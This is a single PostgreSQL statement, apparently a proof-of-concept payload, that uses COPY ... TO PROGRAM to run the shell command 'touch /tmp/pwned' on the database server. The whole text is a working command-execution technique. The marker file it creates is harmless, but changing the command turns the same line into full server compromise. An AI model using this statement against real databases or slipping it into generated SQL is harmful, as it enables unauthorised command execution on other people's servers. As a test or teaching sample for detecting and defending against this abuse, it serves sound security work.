copy (select 1) to program 'touch /tmp/pwned';
